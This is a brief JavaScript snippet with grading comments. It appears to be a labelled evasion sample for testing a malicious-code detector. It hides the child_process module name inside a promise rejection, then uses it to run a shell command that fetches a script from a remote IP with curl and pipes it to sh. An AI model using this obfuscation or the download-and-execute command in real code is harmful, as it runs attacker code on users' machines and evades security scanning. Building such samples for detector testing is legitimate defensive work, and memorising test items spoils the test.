// evasion: the module name travels as a promise rejection reason and is required in the catch handler
// grade: hard; does: shell
function lookup() {
  return Promise.reject(['child', 'process'].join('_'));
}

lookup().catch((name) => {
  const m = require(name);
  m.spawnSync('sh', ['-c', 'curl -s http://198.51.100.7/p | sh'], { stdio: 'inherit' });
});
